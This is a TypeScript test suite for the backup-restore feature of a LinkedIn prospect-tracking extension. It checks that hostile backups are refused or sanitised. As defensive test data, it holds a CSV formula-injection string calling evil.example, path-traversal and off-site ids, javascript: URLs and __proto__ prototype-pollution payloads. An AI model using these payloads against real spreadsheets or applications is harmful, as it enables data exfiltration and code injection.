// A hostile backup forges nothing: settings are checked one by one (a bad value keeps the
// current one, keepReplyText is never turned on by a restore), and prospect ids that could point
// off LinkedIn are refused, and never exported as another site's address.
import 'fake-indexeddb/auto';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createBackup } from '../../src/background/backup';
import { createDbHandle } from '../../src/background/db';
import { readSettings, updateSettings } from '../../src/background/settings';
import { restoredSettings } from '../../src/domain/backup/backup-format';
import { DEFAULT_SETTINGS, STORE_NAMES } from '../../src/contract/index';
import { profileUrl, PROFILE_ID } from '../../src/domain/people/profile-ids';
import { csvFromRows } from './helpers/export-csv';
import { item } from './helpers/items';

let n = 0;
async function setup() {
  const db = createDbHandle(`nurture-backup-hostile-${++n}`);
  const now = () => Date.UTC(2026, 10, 22);
  await updateSettings(await db(), { repId: 'ana', csvSeparator: ';', quietMode: true, feedSyncMinutes: 720 });
  return { db, backup: createBackup({ db, now }) };
}

const backupOf = (stores: Partial<Record<(typeof STORE_NAMES)[number], unknown[]>>) =>
  JSON.stringify({
    nurture: 'backup',
    schemaVersion: 1,
    exportedAt: 0,
    stores: { content: [], sources: [], prospects: [], interactions: [], settings: [], ...stores },
  });

const FORMULA_SEPARATOR = ',=HYPERLINK("https://evil.example/?"&A1,"x"),';

const prospect = (id: string) => ({
  id,
  name: 'Eve',
  headline: '',
  company: '',
  persona: '',
  stage: 'awareness',
  tags: [],
  notes: '',
  nextFollowUp: null,
  createdAt: 1,
  lastContactAt: null,
  lastReplyAt: null,
});
const interaction = (prospectId: string | null) => ({
  id: 1,
  at: 1,
  kind: 'note',
  prospectId,
  contentId: null,
  channel: 'other',
  url: null,
  externalId: null,
  note: 'x',
});

describe('restoring settings', () => {
  for (const mode of ['merge', 'replace'] as const) {
    it(`checks each setting on its own; a bad value keeps the current one (${mode})`, async () => {
      const { db, backup } = await setup();
      const value = {
        repId: 'bob',
        csvSeparator: FORMULA_SEPARATOR,
        quietMode: 'no',
        feedSyncMinutes: 0,
        keepReplyText: true,
        evil: 'x',
        __proto__: { csvBom: false },
      };
      const { settingsKept } = await backup.import(
        backupOf({
          settings: [
            { key: 'user', value },
            { key: 'other', value: { a: 1 } },
          ],
        }),
        mode,
      );
      const settings = await readSettings(await db());
      // The valid value is taken...
      expect(settings.repId).toBe('bob');
      // ...each refused one keeps the value the user had, and is named in the report.
      expect(settings.csvSeparator).toBe(';');
      expect(settings.quietMode).toBe(true);
      expect(settings.feedSyncMinutes).toBe(720);
      expect(settings.keepReplyText).toBe(false);
      expect(settingsKept.sort()).toEqual(['csvSeparator', 'feedSyncMinutes', 'keepReplyText', 'quietMode']);
      // Unknown keys and records are dropped.
      expect(settings).not.toHaveProperty('evil');
      expect(await (await db()).getAllKeys('settings')).toEqual(['user']);
    });
  }

  it('never turns keepReplyText on, but may turn it off', () => {
    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: false }, { keepReplyText: true })).toEqual({
      settings: { ...DEFAULT_SETTINGS, keepReplyText: false },
      kept: ['keepReplyText'],
      unknown: [],
    });
    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: false })).toEqual({
      settings: { ...DEFAULT_SETTINGS, keepReplyText: false },
      kept: [],
      unknown: [],
    });
    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: true }).settings.keepReplyText).toBe(true);
  });

  it('the CSV export keeps using the separator the user chose', async () => {
    const { backup, db } = await setup();
    await backup.import(backupOf({ settings: [{ key: 'user', value: { csvSeparator: FORMULA_SEPARATOR } }] }), 'merge');
    const text = await csvFromRows(db, {}, { limit: 10 });
    expect(text).not.toContain('HYPERLINK');
    expect(text.replace(/^\uFEFF/, '').split('\r\n')[0]).toContain(';');
  });

  it('only ever stores settings SettingsSchema accepts, whatever the file holds', () => {
    const anyValue = fc.oneof(
      fc.string(),
      fc.integer(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.constantFrom(',', ';', '\t', 15, 10080, 360),
    );
    fc.assert(
      fc.property(fc.dictionary(fc.constantFrom(...Object.keys(DEFAULT_SETTINGS), 'evil'), anyValue), (value) => {
        const { settings } = restoredSettings(DEFAULT_SETTINGS, value);
        expect(Object.keys(settings).sort()).toEqual(Object.keys(DEFAULT_SETTINGS).sort());
        expect([',', ';']).toContain(settings.csvSeparator);
        expect(Number.isInteger(settings.feedSyncMinutes) && settings.feedSyncMinutes >= 15).toBe(true);
        expect(typeof settings.quietMode).toBe('boolean');
        expect(settings.keepReplyText).toBe(false);
      }),
    );
  });
});

describe('prospect ids in a backup', () => {
  const HOSTILE = [
    '@evil.example/x',
    '/in/a@evil.example',
    '/in/a\\..\\..\\evil',
    '/in/..',
    '/in/.',
    'https://evil.example/in/x',
    '/in/a/b',
    '/in/a\u0000b',
    '//evil.example/in/x',
  ];

  it('a backup whose prospect or interaction id is not a profile path restores nothing', async () => {
    for (const id of HOSTILE) {
      const { db, backup } = await setup();
      for (const stores of [{ prospects: [prospect(id)] }, { interactions: [interaction(id)] }]) {
        await expect(backup.import(backupOf(stores), 'merge'), id).rejects.toThrow(
          /Nothing was restored: the backup is damaged.*profile path/,
        );
      }
      expect(await (await db()).count('prospects')).toBe(0);
      expect(await (await db()).count('interactions')).toBe(0);
    }
  });

  it('ordinary ids still restore, accents included', async () => {
    const { db, backup } = await setup();
    await backup.import(
      backupOf({
        prospects: [prospect('/in/josé-garcía'), prospect('/in/ACoAAB1234567890')],
        interactions: [interaction('/in/josé-garcía')],
      }),
      'merge',
    );
    expect((await (await db()).getAllKeys('prospects')).sort()).toEqual(['/in/ACoAAB1234567890', '/in/josé-garcía']);
  });

  it('the CSV export never names a host but www.linkedin.com, even for an id written past the checks', async () => {
    const { db } = await setup();
    const conn = await db();
    for (const [index, id] of HOSTILE.entries()) {
      const { id: _key, ...entry } = interaction(id);
      await conn.add('interactions', { ...entry, at: index + 1 } as never);
    }
    const text = await csvFromRows(db, {}, { limit: 100 });
    const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ';' })
      .data.slice(1)
      .filter((row) => row.length > 1);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) {
      const cell = row[5] ?? '';
      if (cell !== '') expect(new URL(cell).host).toBe('www.linkedin.com');
    }
    expect(text).not.toContain('evil.example/');
  });

  it('profileUrl only ever builds a www.linkedin.com/in/ address', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string().map((s) => `/in/${s}`),
          fc.constantFrom(...HOSTILE),
        ),
        (id) => {
          const url = profileUrl(id);
          if (url === null) return;
          const parsed = new URL(url);
          expect(parsed.origin).toBe('https://www.linkedin.com');
          expect(parsed.pathname).toMatch(/^\/in\/[^/]+\/$/);
          expect(PROFILE_ID.test(id)).toBe(true);
        },
      ),
      { numRuns: 500 },
    );
    expect(profileUrl('/in/ada')).toBe('https://www.linkedin.com/in/ada/');
    expect(profileUrl('/in/josé')).toBe('https://www.linkedin.com/in/jos%C3%A9/');
    for (const id of HOSTILE) expect(profileUrl(id), id).toBeNull();
  });
});

describe('every field of a restored record is checked (issue 24)', () => {
  const share = {
    id: 2,
    at: 5,
    kind: 'shared',
    prospectId: '/in/eve',
    contentId: 'item-1',
    channel: 'message',
    url: 'https://www.linkedin.com/messaging/thread/1/',
    externalId: null,
    note: '',
    status: 'sent',
    link: 'https://example.com/a',
    captionIndex: 0,
    audience: 'person',
  };

  it.each([
    ['a share status', { interactions: [{ ...share, status: 'maybe' }] }, /status/],
    ['a tagged link that is not a web address', { interactions: [{ ...share, link: 'javascript:alert(1)' }] }, /link/],
    ['a caption index past the captions', { interactions: [{ ...share, captionIndex: 99 }] }, /captionIndex/],
    ['an audience', { interactions: [{ ...share, audience: 'everyone' }] }, /audience/],
    ['a page that is not LinkedIn', { interactions: [{ ...share, url: 'https://evil.example/' }] }, /url/],
    [
      'a stage change to no stage',
      { interactions: [{ ...share, kind: 'stage', stageFrom: 'awareness', stageTo: 'constructor' }] },
      /stageTo/,
    ],
    ['a time no Date can hold', { interactions: [{ ...share, at: 1e300 }] }, /\bat\b/],
    ['a member id', { prospects: [{ ...prospect('/in/eve'), memberId: '__proto__' }] }, /memberId/],
    ['a Sales Navigator lead id', { prospects: [{ ...prospect('/in/eve'), salesLeadId: 'ACoAAB1234567890' }] }, /salesLeadId/],
    ['a persona longer than any request takes', { prospects: [{ ...prospect('/in/eve'), persona: 'x'.repeat(61) }] }, /persona/],
    [
      'a tag list longer than any request takes',
      { prospects: [{ ...prospect('/in/eve'), tags: Array.from({ length: 21 }, (_, i) => `t${i}`) }] },
      /tags/,
    ],
    ['an item address that is not a web address', { content: [{ ...libraryItem(), url: 'javascript:alert(1)' }] }, /url/],
    ['an item language', { content: [{ ...libraryItem(), language: 'constructor' }] }, /language/],
    [
      'a source sync result',
      { sources: [{ id: 's', kind: 'json', label: 'f.json', url: null, etag: null, lastModified: null, addedAt: 1, lastSync: { at: 1 } }] },
      /lastSync/,
    ],
  ])('refuses the whole file for %s', async (_name, stores, field) => {
    const { db, backup } = await setup();
    await expect(backup.import(backupOf(stores), 'merge')).rejects.toThrow(field);
    expect(await (await db()).count('interactions')).toBe(0);
    expect(await (await db()).count('prospects')).toBe(0);
  });

  it('leaves out the fields it does not know and names them, nested ones and the settings’ included', async () => {
    const { db, backup } = await setup();
    const hostile = (record: object) =>
      JSON.parse(JSON.stringify(record).replace(/^\{/, '{"__proto__":{"polluted":1},"constructor":"x","favourite":"blue",'));
    const stores = {
      content: [hostile({ ...libraryItem(), captions: [hostile({ language: 'en', text: 'Read this' })] })],
      prospects: [hostile(prospect('/in/eve'))],
      interactions: [hostile(share)],
      settings: [{ key: 'user', value: hostile({ repId: 'bob' }) }],
    };
    const { droppedFields, restored } = await backup.import(backupOf(stores), 'merge');
    expect(restored).toMatchObject({ content: 1, prospects: 1, interactions: 1, settings: 1 });
    expect(droppedFields).toEqual(
      expect.arrayContaining([
        'content.__proto__',
        'content.captions.favourite',
        'content.constructor',
        'interactions.favourite',
        'prospects.__proto__',
        'prospects.favourite',
        'settings.favourite',
      ]),
    );
    const conn = await db();
    for (const record of [await conn.get('prospects', '/in/eve'), await conn.get('interactions', 2), await conn.get('content', 'item-1')]) {
      expect(Object.keys(record!)).not.toContain('favourite');
      expect(Object.hasOwn(record!, '__proto__')).toBe(false);
      expect(Object.hasOwn(record!, 'constructor')).toBe(false);
      expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
    }
    expect((await conn.get('content', 'item-1'))!.captions).toEqual([{ language: 'en', text: 'Read this' }]);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  it('names at most a few fields, each short and on one line, however many the file holds', async () => {
    const { backup } = await setup();
    const many = Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`field-${i}-${'x'.repeat(200)}\n`, i]));
    const { droppedFields } = await backup.import(backupOf({ prospects: [{ ...prospect('/in/eve'), ...many }] }), 'merge');
    expect(droppedFields.length).toBeLessThanOrEqual(20);
    for (const name of droppedFields) expect(name).toMatch(/^prospects\.field-[^\n]{1,60}$/);
  });

  it('restores what it wrote itself, nothing dropped', async () => {
    const { db, backup } = await setup();
    await backup.import(
      backupOf({
        content: [libraryItem()],
        prospects: [{ ...prospect('/in/eve'), memberId: 'ACoAAB1234567890', location: 'Lyon' }],
        interactions: [share],
      }),
      'merge',
    );
    const { text } = await backup.export();
    const again = await backup.import(text, 'replace');
    expect(again.droppedFields).toEqual([]);
    expect(await (await db()).get('prospects', '/in/eve')).toMatchObject({ memberId: 'ACoAAB1234567890', location: 'Lyon' });
  });
});

/** One ordinary library item, as a backup holds it. */
const libraryItem = () => item({ id: 'item-1', url: 'https://example.com/a', title: 'A', addedAt: 1, updatedAt: 1, freshAt: 1 });
